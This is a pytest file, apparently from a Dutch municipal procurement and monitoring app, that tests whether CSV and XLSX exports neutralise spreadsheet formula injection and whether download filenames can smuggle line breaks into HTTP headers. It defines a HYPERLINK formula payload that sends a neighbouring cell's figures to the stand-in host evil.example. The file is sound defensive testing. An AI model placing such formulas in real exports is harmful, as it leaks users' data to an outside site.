"""No text from the database becomes a formula in a CSV or XLSX export (CSV injection).

A supplier named `=HYPERLINK("https://evil.example/?d="&B2,"Klik")` would otherwise be a live
link in the procurement report that sends the figures next to it to that site. Every text cell
that starts with `= + - @`, a tab or a carriage return is prefixed with a quote; numbers stay
numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("https://evil.example/?d="&B2,"Klik")'


def _xml(text: str) -> str:
    """XLSX is XML: a carriage return comes back as a line feed."""
    return text.replace("\r", "\n")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_neutralise_prefixes_text_and_leaves_numbers(prefix):
    from app.exports.cells import neutralise, write_csv

    assert neutralise(prefix + PAYLOAD) == "'" + prefix + PAYLOAD
    assert neutralise("Bouwbedrijf " + prefix) == "Bouwbedrijf " + prefix
    assert neutralise(Decimal("-12.50")) == Decimal("-12.50")
    assert neutralise(-3) == -3
    document = write_csv([[prefix + "x", Decimal("-1.5"), -2]])
    rows = list(csv.reader(io.StringIO(document.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["'" + prefix + "x", "-1,5", "-2"]]


def test_download_name_is_a_safe_header():
    from app.exports.cells import attachment

    assert attachment("monitor-gemeente-a-2026.csv") == {
        "Content-Disposition": 'attachment; filename="monitor-gemeente-a-2026.csv"'
    }
    header = attachment('monitor-"súdwest"\r\n-2026.csv')["Content-Disposition"]
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert "filename*=UTF-8''monitor-%22s%C3%BAdwest%22%0D%0A-2026.csv" in header


# --- the procurement report (CSV and XLSX, both sheets with text from the database) ---------


@pytest.fixture
def hostile(world, db):
    """Authority A's contract, its supplier and its block named like formulas (set per test)."""
    world.a.activity.state = "accepted"
    db.session.commit()
    return world


def _name_everything(world, db, prefix):
    contract = world.a.contract
    contract.supplier.name = prefix + PAYLOAD
    contract.title = prefix + "Onderhoud groen"
    contract.reference = prefix + "C-1"
    block = next(b for b in contract.catalogue.blocks if b.code == "pw")
    block.label = prefix + "SUM(1+1)"
    db.session.commit()
    return contract, block


@pytest.mark.parametrize("prefix", PREFIXES)
def test_procurement_report_csv_has_no_formulas(hostile, db, client, auth, prefix):
    contract, block = _name_everything(hostile, db, prefix)
    auth.login("procurement.a@example.nl")
    response = client.get("/inkoop/rapportages/export.csv?jaar=2026")
    assert response.status_code == 200
    rows = list(
        csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    line = next(r for r in rows if r["Onderdeel"] == "contract")
    assert line["Leverancier"] == "'" + contract.supplier.name
    assert line["Titel"] == "'" + contract.title
    assert line["Kenmerk"] == "'" + contract.reference
    blocks = [r for r in rows if r["Onderdeel"] == "bouwblok"]
    # (The valuation trims the label: a leading tab or return is gone, the rest is quoted.)
    assert block.label.strip() in [r["Bouwblok"].removeprefix("'") for r in blocks]
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(tuple(PREFIXES)), row
    assert line["Verplichting"] and line["Verplichting"][0].isdigit()


@pytest.mark.parametrize("prefix", PREFIXES)
def test_procurement_report_xlsx_has_no_formulas(hostile, db, client, auth, prefix):
    contract, block = _name_everything(hostile, db, prefix)
    auth.login("procurement.a@example.nl")
    response = client.get("/inkoop/rapportages/export.xlsx?jaar=2026")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    contracts = workbook["Contracten"]
    row = [c for c in contracts[2]]
    assert [c.value for c in row[:3]] == [
        _xml("'" + contract.reference),
        _xml("'" + contract.title),
        _xml("'" + contract.supplier.name),
    ]
    assert isinstance(row[5].value, (int, float))  # the obligation stays a number
    blocks = workbook["Per bouwblok"]
    assert block.label.strip() in [str(c.value).removeprefix("'") for c in blocks["A"]]
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(tuple(PREFIXES)), cell.value


# --- the monitor (CSV and XLSX) ---------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_monitor_exports_have_no_formulas(world, db, prefix):
    from app.exports import participation_monitor
    from app.services import monitoring as monitor

    report = monitor.MonitorReport(municipality=world.a.municipality, period=monitor.Period(2026))
    report.rows = [
        monitor.Row("x", prefix + "Uitstroom", 3, prefix + PAYLOAD, table_row=prefix + "Rij"),
        monitor.Row("y", "Boetes", Decimal("-12.50"), "", money=True),
    ]
    report.sroi = [monitor.SroiTotal(prefix + "Gemeente", 1, Decimal(5), Decimal(1), Decimal(0))]

    rows = list(
        csv.reader(
            io.StringIO(participation_monitor.to_csv(report).lstrip("\ufeff")), delimiter=";"
        )
    )
    assert ["'" + prefix + "Uitstroom", "3", "'" + prefix + PAYLOAD, "'" + prefix + "Rij"] in rows
    assert ["Boetes", "-12,50", "", ""] in rows  # a negative number stays a number
    for row in rows:
        for value in row:
            number = re.fullmatch(r"-?\d+(,\d+)?", value)
            assert number or not value.startswith(tuple(PREFIXES)), row

    sheet = load_workbook(io.BytesIO(participation_monitor.to_xlsx(report))).active
    values = [[c.value for c in line] for line in sheet.iter_rows()]
    expected = ["'" + prefix + "Uitstroom", 3, "'" + prefix + PAYLOAD, "'" + prefix + "Rij"]
    assert [_xml(v) if isinstance(v, str) else v for v in expected] in values
    assert ["Boetes", -12.5, None, None] in values
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.value


def test_monitor_download_over_http_is_neutral_too(world, db, client, auth):
    world.a.municipality.name = '=Gemeente "A"'
    db.session.commit()
    auth.login("jobhunter.a@example.nl")
    response = client.get(f"/jobhunter/monitor.xlsx?jaar={date.today().year}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].count('"') == 2
    sheet = load_workbook(io.BytesIO(response.data)).active
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.value
